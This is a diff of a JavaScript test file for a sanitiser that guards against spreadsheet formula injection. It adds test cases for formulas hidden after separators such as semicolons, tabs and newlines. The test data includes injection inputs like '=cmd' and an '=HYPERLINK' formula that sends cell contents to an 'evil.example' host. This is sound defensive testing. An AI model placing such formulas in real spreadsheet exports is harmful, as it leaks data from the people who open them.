@@ -23,8 +23,6 @@ describe("text that a spreadsheet would run is neutralised", () => {
     "-1-A1",
     "-5.00=A1",
     "+1 (212) 555-0100=A1",
-    "+12125550100; =A1",
-    "+12125550100; ; =A1",
     "+1 (212) 555-0100 HYPERLINK",
     "=",
     "==",
@@ -32,10 +30,7 @@ describe("text that a spreadsheet would run is neutralised", () => {
     "@handle",
     "- note",
     "+",
-    "\t=1",
     "\tplain",
-    "\r=1",
-    "\n=1",
     " =1",
     "\u00a0=1",
     "\ufeff=1",
@@ -46,6 +41,29 @@ describe("text that a spreadsheet would run is neutralised", () => {
     '=HYPERLINK("https://evil.example?"&A1)',
   ])("%j", (text) => {
     expect(guardFormula(text)).toBe(`'${text}`);
+  });
+});
+
+describe("a part that becomes a cell of its own where something else divides cells is neutralised", () => {
+  test.each([
+    ["x;=cmd", "x;'=cmd"],
+    ["x\t=cmd", "x\t'=cmd"],
+    ["x\n=cmd", "x\n'=cmd"],
+    ["x\r\n=cmd", "x\r\n'=cmd"],
+    ["x,=cmd", "x,'=cmd"],
+    ["x; +A1", "x; '+A1"],
+    ['x;"=cmd"', "x;'\"=cmd\""],
+    ['x;" =cmd"', "x;'\" =cmd\""],
+    ["x;;@A1", "x;;'@A1"],
+    ["x;-5;-A1", "x;-5;'-A1"],
+    ["x;+1,cmd", "x;'+1,cmd"],
+    ["+12125550100; =A1", "'+12125550100; '=A1"],
+    ["+12125550100; ; =A1", "'+12125550100; ; '=A1"],
+    ["\t=1", "'\t'=1"],
+    ["\r=1", "'\r'=1"],
+    ["\n=1", "'\n'=1"],
+  ])("%j", (text, guarded) => {
+    expect(guardFormula(text)).toBe(guarded);
   });
 });
 
@@ -87,19 +105,25 @@ describe("everything else stays as it is", () => {
     "x+y",
     "'quoted",
     "0042",
+    "call; +12125550100; at home",
+    "x;-5.00;2026-11-23",
+    "x\t-1e5",
+    "a;'=b",
+    "a, b; c-d\te=f",
     " plain",
   ])("%j", (text) => {
     expect(guardFormula(text)).toBe(text);
   });
 });
 
-test("text is only ever left alone or given one mark in front", () => {
+test("text is only ever left alone or given marks, and what was guarded once stays as it is", () => {
   fc.assert(
     fc.property(
-      fc.string({ unit: fc.constantFrom(...Array.from("=+-@\t\r\n 01.(/)eExXtA|!'＝")) }),
+      fc.string({ unit: fc.constantFrom(...Array.from('=+-@\t\r\n;," 01.(/)eExXtA|!＝')) }),
       (text) => {
         const guarded = guardFormula(text);
-        expect([text, `'${text}`]).toContain(guarded);
+        expect(guarded.replaceAll("'", "")).toBe(text);
+        expect(guardFormula(guarded)).toBe(guarded);
       },
     ),
     { numRuns: 1000 },
